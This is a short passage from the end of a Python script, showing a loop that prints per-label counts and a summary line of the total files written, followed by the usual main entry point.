        print(f"{k:40} {counts[k]}")
    print(f"total {len(LABELS)} files in {out}")


if __name__ == "__main__":
    main()
